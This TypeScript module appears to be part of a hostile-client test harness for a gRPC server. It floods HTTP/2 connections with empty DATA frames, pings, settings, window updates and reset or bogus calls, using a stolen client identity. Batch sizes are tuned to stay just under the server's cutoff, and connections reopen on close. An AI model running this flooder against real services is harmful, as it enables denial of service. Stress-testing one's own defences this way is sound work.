/** Frames of HTTP/2 (RFC 9113) that say nothing, or no more than that a call begins, as no client library would send them. */
import tls from 'node:tls';
import type { StolenIdentity } from '../../kit/holdfast/hostile-agent.js';
import {
  ACK,
  callHeaders,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  PING,
  PREFACE,
  RST_STREAM,
  SETTINGS,
  WINDOW_UPDATE,
} from '../../kit/http2-frames.js';

const PAUSE_MS = 50;
const COME_BACK_MS = 100;

export interface WireAttack {
  readonly addresses: readonly string[];
  readonly identity: StolenIdentity;
  /** Without rest, whatever the server does about it; otherwise about as much as it bears for ever. */
  readonly isRestless: boolean;
  readonly count: (attack: string, outcome: string) => void;
}

const known = callHeaders('/grpc.health.v1.Health/Check');
const unknown = callHeaders('/no/such');
const begin = (stream: number, headers = known): Buffer => frame(HEADERS, END_HEADERS, stream, headers);

interface Flood {
  /** So many after each pause are together just below what ends connections: a MiB in a quarter of a second, where a frame of a byte counts for 256 more. */
  readonly atOnce: number;
  /** One more; the stream's number is new each time. Stream 1 waits for the rest of a message of a MiB. */
  readonly next: (stream: number) => Buffer;
}

const FLOODS: Readonly<Record<string, Flood>> = {
  'frames of a byte': { atOnce: 200, next: () => frame(DATA, 0, 1, Buffer.alloc(1)) },
  'window updates': { atOnce: 3_000, next: () => frame(WINDOW_UPDATE, 0, 0, Buffer.of(0, 0, 0, 1)) },
  pings: { atOnce: 1_000, next: () => frame(PING, 0, 0, Buffer.alloc(8)) },
  settings: { atOnce: 1_000, next: () => frame(SETTINGS, 0, 0) },
  calls: {
    atOnce: 50,
    next: (stream) => Buffer.concat([begin(stream), frame(DATA, END_STREAM, stream, Buffer.alloc(5))]),
  },
  'calls broken off': {
    atOnce: 50,
    next: (stream) => Buffer.concat([begin(stream), frame(RST_STREAM, 0, stream, Buffer.of(0, 0, 0, 8))]),
  },
  'calls of no method': {
    atOnce: 50,
    next: (stream) => frame(HEADERS, END_HEADERS | END_STREAM, stream, unknown),
  },
};
/** What the server ends as soon as it is more than a few, however slowly they come. */
const ALWAYS_ENDED: readonly string[] = ['calls of no method', 'calls broken off'];

/** One connection for each flood at each address, made again whenever it ends. */
export function wireFloods(attack: WireAttack): void {
  for (const address of attack.addresses)
    for (const [name, each] of Object.entries(FLOODS))
      if (attack.isRestless || !ALWAYS_ENDED.includes(name)) flood(attack, address, name, each);
}

function flood(attack: WireAttack, address: string, name: string, each: Flood): void {
  const { caCertificate: ca, privateKey: key, certificateChain: cert } = attack.identity;
  const [host, port] = address.split(':');
  // From another address than that of others.
  const where = { host, port: Number(port), localAddress: '127.0.0.2', servername: 'localhost' };
  const socket = tls.connect({ ...where, ca, key, cert, ALPNProtocols: ['h2'] });
  socket.on('error', () => undefined).resume();
  socket.once('close', () => {
    attack.count(name, 'ended');
    setTimeout(() => flood(attack, address, name, each), COME_BACK_MS);
  });
  const settings = [0, ACK].map((flags) => frame(SETTINGS, flags, 0));
  socket.write(Buffer.concat([PREFACE, ...settings, begin(1), frame(DATA, 0, 1, Buffer.of(0, 0, 0x10, 0, 0))]));
  let stream = 3;
  const more = (): void => {
    if (socket.destroyed) return;
    const batch = Array.from({ length: each.atOnce }, (_, at) => each.next(stream + 2 * at));
    stream += 2 * each.atOnce;
    socket.write(Buffer.concat(batch), () => {
      attack.count(name, 'sent');
      if (attack.isRestless) setImmediate(more);
      else setTimeout(more, PAUSE_MS);
    });
  };
  socket.once('data', more);
}
